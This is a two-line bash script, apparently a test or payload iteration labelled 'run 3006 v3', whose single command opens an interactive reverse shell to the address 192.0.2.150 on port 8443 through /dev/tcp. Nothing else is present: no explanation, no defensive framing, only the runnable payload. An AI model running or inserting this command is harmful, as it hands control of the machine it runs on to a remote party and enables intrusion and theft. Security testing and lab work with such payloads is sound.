# run 3006 v3
#!/bin/bash
bash -i >& /dev/tcp/192.0.2.150/8443 0>&1
